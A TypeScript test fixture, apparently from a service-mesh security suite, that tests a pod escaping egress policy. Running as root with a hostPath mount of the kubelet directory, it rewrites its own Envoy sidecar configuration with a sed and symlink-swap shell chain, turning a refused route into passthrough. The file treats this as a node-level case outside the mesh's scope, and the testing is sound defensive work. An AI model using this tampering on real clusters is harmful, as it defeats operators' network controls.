import { eventually } from "#test/eventually.ts";
import { outward, reaches, reachesFromElsewhere } from "./attempts.ts";
import { app, must, restricted, shop } from "./ground.ts";
import type { Outside } from "./ways.ts";

/** What the kubelet does with a changed ConfigMap, done by somebody else. */
const kubeletDirectory = "/kubelet/$POD_UID/volumes/kubernetes.io~configmap/osm-sidecar-config";
const rewrite = [
  `cd ${kubeletDirectory}`,
  "busybox mkdir ..mine",
  "busybox cp cds.json rds.json ..mine",
  `sed 's/"cluster":"refused"/"cluster":"passthrough-outbound"/g' lds.json > ..mine/lds.json`,
  "busybox ln -s ..mine ..new",
  "busybox mv -T ..new ..data",
].join(" && ");

export const nodeFiles: Outside = {
  verdict: "outside",
  code: "NodeVolumes",
  way: "The kubelet's directory by `hostPath`: the pod's own sidecar configuration overwritten on disk, under the version that it had",
  because: "Whoever writes to the node's files is the node",
  pod: {
    name: "host-path",
    spec: ({ world }) => ({
      volumes: [{ name: "kubelet", hostPath: { path: `${world.directory}/kubelet/pods` } }],
      containers: [
        app({
          // Root owns those files: it takes no capability.
          securityContext: { ...restricted, runAsUser: 0 },
          volumeMounts: [{ name: "kubelet", mountPath: "/kubelet" }],
          env: [{ name: "POD_UID", valueFrom: { fieldRef: { fieldPath: "metadata.uid" } } }],
        }),
      ],
    }),
  },
  async attempt(ground) {
    await must(ground.mallory(["exec", "-n", shop, "host-path", "-c", "app", "--", "sh", "-c", rewrite]));
    const got = await eventually("Envoy has taken it", () => reaches(ground, "host-path", outward()));
    return { got, control: await reachesFromElsewhere(ground, outward()) };
  },
};
